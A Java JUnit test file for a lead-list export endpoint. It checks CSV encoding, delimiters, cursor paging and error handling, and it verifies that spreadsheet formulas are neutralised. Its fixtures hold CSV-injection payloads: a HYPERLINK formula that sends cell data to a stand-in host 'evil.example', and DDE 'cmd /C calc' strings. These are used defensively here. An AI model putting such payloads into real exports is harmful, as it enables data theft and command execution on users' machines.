package io.leadcapture.read;

import static org.assertj.core.api.Assertions.assertThat;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPResponse;
import com.fasterxml.jackson.databind.JsonNode;
import io.leadcapture.core.Stage;
import io.leadcapture.core.Temperature;
import io.leadcapture.local.aws.HttpApiEvents;
import io.leadcapture.local.aws.LocalContext;
import io.leadcapture.runtime.Json;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** GET /leads/export.csv against moto: BOM, delimiters, neutralised formulas, raw JSON, paging by size. */
class LeadListExportHandlerTest {
    static final Instant T0 = Instant.parse("2026-11-02T08:00:00Z");
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klick\")";
    static final String CMD = "+cmd|' /C calc'!A0";
    static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

    ListFixtures f;

    @BeforeEach
    void freshTable() {
        f = new ListFixtures();
    }

    APIGatewayV2HTTPResponse export(Map<String, String> query, int pageBytes) {
        StringBuilder raw = new StringBuilder();
        query.forEach((k, v) -> raw.append(raw.isEmpty() ? "" : "&").append(k).append('=')
                .append(URLEncoder.encode(v, StandardCharsets.UTF_8)));
        APIGatewayV2HTTPEvent e = HttpApiEvents.event("GET /leads/export.csv", "GET", "/leads/export.csv", raw.toString(),
                Map.of(), null, "10.0.0.1", Map.of());
        return new LeadListExportHandler(f.store.lists(), pageBytes).handleRequest(e,
                new LocalContext("LeadListExportFunction", 29));
    }

    String formulaLead() {
        String id = f.lead("formel", "google", T0, Map.of("last_name", "Weiß-Özdemir", "company", CMD,
                "job_title", SUM, "city", "Köln", "industry", HYPERLINK, "phone", "+49 30 1234567"));
        f.score(id, Temperature.HOT, Stage.MQL);
        return id;
    }

    @Test
    void csvHasBomHeaderUmlautsAndNeutralisedFormulas() {
        String id = formulaLead();

        APIGatewayV2HTTPResponse r = export(Map.of(), LeadListExportHandler.DEFAULT_PAGE_BYTES);

        assertThat(r.getStatusCode()).as(r.getBody()).isEqualTo(200);
        assertThat(r.getHeaders().get("content-type")).startsWith("text/csv; charset=utf-8");
        assertThat(r.getHeaders()).doesNotContainKey("x-next-cursor");
        String body = r.getBody();
        assertThat(body).startsWith("\uFEFFleadId;createdAt;lastTouchAt;stage;temperature;score;owner;source;email;phone;");
        String[] lines = body.split("\r\n");
        assertThat(lines).hasSize(2);
        assertThat(lines[1]).startsWith(id + ";" + T0 + ";" + T0 + ";MQL;hot;90;;google;" + f.email("formel")
                + ";'+49301234567;Jörg;Weiß-Özdemir;'+cmd|' /C calc'!A0;'@SUM(1+1)*cmd|' /C calc'!A0;"
                + "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Klick\"\")\";");
        assertThat(lines[1]).contains(";Köln;").doesNotContain(";=", ";+", ";@");
    }

    @Test
    void commaDelimiterQuotesCellsHoldingCommas() {
        String id = f.lead("komma", "linkedin", T0, Map.of("company", "Müller, Söhne & Co. KG"));

        APIGatewayV2HTTPResponse r = export(Map.of("delimiter", ","), LeadListExportHandler.DEFAULT_PAGE_BYTES);

        assertThat(r.getStatusCode()).isEqualTo(200);
        String[] lines = r.getBody().split("\r\n");
        assertThat(lines[0]).startsWith("\uFEFFleadId,createdAt,lastTouchAt,");
        assertThat(lines[1]).startsWith(id + ",").contains(",\"Müller, Söhne & Co. KG\",");
    }

    @Test
    void jsonExportGivesTheRawValues() throws Exception {
        String id = formulaLead();

        APIGatewayV2HTTPResponse r = export(Map.of("format", "json"), LeadListExportHandler.DEFAULT_PAGE_BYTES);

        assertThat(r.getStatusCode()).isEqualTo(200);
        assertThat(r.getHeaders().get("content-type")).startsWith("application/json");
        JsonNode body = Json.MAPPER.readTree(r.getBody());
        assertThat(body.path("nextCursor").isNull()).isTrue();
        JsonNode lead = body.path("items").get(0);
        assertThat(lead.path("leadId").asText()).isEqualTo(id);
        assertThat(lead.path("phone").asText()).isEqualTo("+49301234567");
        assertThat(lead.path("company").asText()).isEqualTo(CMD);
        assertThat(lead.path("jobTitle").asText()).isEqualTo(SUM);
        assertThat(lead.path("industry").asText()).isEqualTo(HYPERLINK);
        assertThat(lead.path("lastName").asText()).isEqualTo("Weiß-Özdemir");
        assertThat(lead.path("score").asInt()).isEqualTo(90);
    }

    @Test
    void pagesFollowTheCursorAndConcatenateToOneFile() throws Exception {
        List<String> created = new ArrayList<>();
        for (int i = 0; i < 30; i++) {
            String id = f.lead("seite" + i, i % 2 == 0 ? "google" : "linkedin", T0.plus(Duration.ofMinutes(i)));
            f.score(id, i % 3 == 0 ? Temperature.HOT : Temperature.COLD, Stage.LEAD);
            created.add(id);
        }
        String expectedWhole = export(Map.of(), LeadListExportHandler.DEFAULT_PAGE_BYTES).getBody();

        StringBuilder whole = new StringBuilder();
        String cursor = null;
        int pages = 0;
        do {
            Map<String, String> q = new LinkedHashMap<>();
            if (cursor != null) {
                q.put("cursor", cursor);
            }
            APIGatewayV2HTTPResponse r = export(q, 2_000);
            assertThat(r.getStatusCode()).isEqualTo(200);
            assertThat(r.getBody().getBytes(StandardCharsets.UTF_8).length).isLessThanOrEqualTo(2_000);
            assertThat(r.getBody().startsWith("\uFEFF")).isEqualTo(pages == 0);
            whole.append(r.getBody());
            cursor = r.getHeaders().get("x-next-cursor");
            if (cursor != null) {
                assertThat(r.getHeaders().get("link")).isEqualTo("</leads/export.csv?cursor=" + cursor + ">; rel=\"next\"");
            }
            pages++;
        } while (cursor != null);

        assertThat(pages).isGreaterThan(3);
        assertThat(whole.toString()).isEqualTo(expectedWhole);
        String[] lines = whole.toString().split("\r\n");
        assertThat(lines).hasSize(31);
        List<String> ids = new ArrayList<>();
        for (int i = 1; i < lines.length; i++) {
            ids.add(lines[i].substring(0, lines[i].indexOf(';')));
        }
        assertThat(ids).doesNotHaveDuplicates().containsExactlyInAnyOrderElementsOf(created);

        // the filters travel in the link; JSON pages too
        APIGatewayV2HTTPResponse json = export(Map.of("format", "json", "source", "google"), 1_000);
        assertThat(json.getHeaders().get("link")).startsWith("</leads/export.csv?source=google&format=json&cursor=");
        assertThat(Json.MAPPER.readTree(json.getBody()).path("nextCursor").asText())
                .isEqualTo(json.getHeaders().get("x-next-cursor"));
    }

    @Test
    void badFormatDelimiterOrCursorIs400() throws Exception {
        for (var q : List.of(Map.of("delimiter", "|"), Map.of("format", "xlsx"), Map.of("cursor", "abc"),
                Map.of("stage", "nope"))) {
            APIGatewayV2HTTPResponse r = export(q, 10_000);
            assertThat(r.getStatusCode()).as(q.toString()).isEqualTo(400);
            assertThat(Json.MAPPER.readTree(r.getBody()).path("fields").has(q.keySet().iterator().next())).isTrue();
        }
    }
}
